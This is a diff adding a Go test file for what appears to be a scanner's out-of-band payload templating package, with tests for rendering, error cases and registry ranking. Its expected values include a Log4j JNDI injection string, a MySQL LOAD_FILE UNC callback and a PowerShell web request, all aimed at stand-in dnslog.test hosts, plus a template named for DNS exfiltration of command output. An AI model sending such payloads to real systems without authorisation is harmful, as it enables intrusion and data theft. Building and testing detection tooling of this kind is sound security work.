@@ -0,0 +1,156 @@
+package payloads
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/zan8in/oobadapter/pkg/oobadapter"
+)
+
+var testDomains = oobadapter.ValidationDomains{
+	Filter: "abc12345",
+	DNS:    "abc12345.dnslog.test",
+	HTTP:   "http://dnslog.test:8080/abc12345",
+	JNDI:   "abc12345.dnslog.test",
+	LDAP:   "ldap://dnslog.test:1389/abc12345",
+	RMI:    "rmi://dnslog.test:1099/abc12345",
+}
+
+func TestRenderBuiltins(t *testing.T) {
+	fields := strings.NewReplacer(
+		"{{.DNS}}", testDomains.DNS,
+		"{{.HTTP}}", testDomains.HTTP,
+		"{{.LDAP}}", testDomains.LDAP,
+		"{{.RMI}}", testDomains.RMI,
+		"{{.Command}}", "whoami",
+	)
+	for _, b := range builtins {
+		ctx := Context{OS: b.OS, Shell: b.Shell, Command: "whoami"}
+		p, err := Render(b.Name, testDomains, ctx)
+		if err != nil {
+			t.Errorf("%s %s/%s: %v", b.Name, b.OS, b.Shell, err)
+			continue
+		}
+		if want := fields.Replace(b.Text); p.Value != want {
+			t.Errorf("%s %s/%s: got %q, want %q", b.Name, b.OS, b.Shell, p.Value, want)
+		}
+		if p.Name != b.Name || p.Protocol != b.Protocol {
+			t.Errorf("%s: payload %+v", b.Name, p)
+		}
+		if strings.Contains(p.Value, "{{") {
+			t.Errorf("%s: unrendered placeholder in %q", b.Name, p.Value)
+		}
+	}
+
+	// a few literal renderings
+	cases := []struct {
+		name string
+		ctx  Context
+		want string
+	}{
+		{"dns-ping", Context{OS: OSWindows}, "ping -n 1 abc12345.dnslog.test"},
+		{"http-get", Context{OS: OSWindows, Shell: ShellPowershell}, "Invoke-WebRequest -UseBasicParsing http://dnslog.test:8080/abc12345"},
+		{"log4j-jndi-ldap", Context{}, "${jndi:ldap://dnslog.test:1389/abc12345}"},
+		{"mysql-load-file", Context{OS: OSWindows}, `SELECT LOAD_FILE('\\\\abc12345.dnslog.test\\a')`},
+	}
+	for _, c := range cases {
+		p, err := Render(c.name, testDomains, c.ctx)
+		if err != nil || p.Value != c.want {
+			t.Errorf("%s: got %q %v, want %q", c.name, p.Value, err, c.want)
+		}
+	}
+}
+
+func TestRenderErrors(t *testing.T) {
+	cases := []struct {
+		name string
+		d    oobadapter.ValidationDomains
+		ctx  Context
+		want string
+	}{
+		{"no-such-template", testDomains, Context{}, "not found"},
+		// only linux and windows variants exist
+		{"http-get", testDomains, Context{OS: "darwin"}, "not found"},
+		{"dns-exfil-hex", testDomains, Context{OS: OSLinux}, "requires Command"},
+		{"log4j-jndi-ldap", oobadapter.ValidationDomains{DNS: "abc.dnslog.test"}, Context{}, "requires LDAP"},
+	}
+	for _, c := range cases {
+		_, err := Render(c.name, c.d, c.ctx)
+		if err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%s: got %v, want %q", c.name, err, c.want)
+		}
+	}
+
+	// without ldap and rmi servers the jndi templates that need them are skipped
+	for _, p := range Default.RenderAll(oobadapter.ValidationDomains{DNS: "abc.dnslog.test", HTTP: "http://dnslog.test/abc"}, Context{OS: OSLinux}) {
+		if p.Name == "log4j-jndi-ldap" || p.Name == "log4j-jndi-rmi" || p.Name == "dns-exfil-hex" {
+			t.Errorf("rendered %s without its required field", p.Name)
+		}
+	}
+}
+
+func TestRegistry(t *testing.T) {
+	r := NewRegistry()
+	for _, tpl := range []Template{
+		{Name: "probe", Text: "generic {{.DNS}}"},
+		{Name: "probe", OS: OSLinux, Text: "linux {{.DNS}}"},
+		{Name: "probe", OS: OSWindows, Text: "windows {{.DNS}}"},
+		{Name: "probe", OS: OSWindows, Shell: ShellPowershell, Text: "powershell {{.DNS}}"},
+	} {
+		if err := r.Register(tpl); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	// os and shell beat os, os beats generic
+	ranking := []struct {
+		ctx  Context
+		want string
+	}{
+		{Context{}, "generic"},
+		{Context{OS: "darwin"}, "generic"},
+		{Context{OS: OSLinux}, "linux"},
+		{Context{OS: "LINUX", Shell: ShellSh}, "linux"},
+		{Context{OS: OSWindows}, "windows"},
+		{Context{OS: OSWindows, Shell: ShellCmd}, "windows"},
+		{Context{OS: OSWindows, Shell: ShellPowershell}, "powershell"},
+	}
+	for _, c := range ranking {
+		p, err := r.Render("probe", testDomains, c.ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if want := c.want + " " + testDomains.DNS; p.Value != want {
+			t.Errorf("%+v: got %q, want %q", c.ctx, p.Value, want)
+		}
+	}
+
+	// the same name, os and shell replaces the template, case-insensitively
+	if err := r.Register(Template{Name: "probe", OS: "Linux", Text: "replaced {{.DNS}}"}); err != nil {
+		t.Fatal(err)
+	}
+	if p, _ := r.Render("probe", testDomains, Context{OS: OSLinux}); p.Value != "replaced "+testDomains.DNS {
+		t.Errorf("replaced: %q", p.Value)
+	}
+	if n := len(r.templates["probe"]); n != 4 {
+		t.Errorf("variants: %d", n)
+	}
+	if names := r.Names(); len(names) != 1 || names[0] != "probe" {
+		t.Errorf("names: %v", names)
+	}
+
+	for _, bad := range []Template{
+		{Text: "{{.DNS}}"},
+		{Name: "broken", Text: "{{.DNS"},
+	} {
+		if err := r.Register(bad); err == nil {
+			t.Errorf("%+v: expected error", bad)
+		}
+	}
+	if err := r.Register(Template{Name: "unknown-field", Text: "{{.Nope}}"}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := r.Render("unknown-field", testDomains, Context{}); err == nil {
+		t.Error("unknown field rendered")
+	}
+}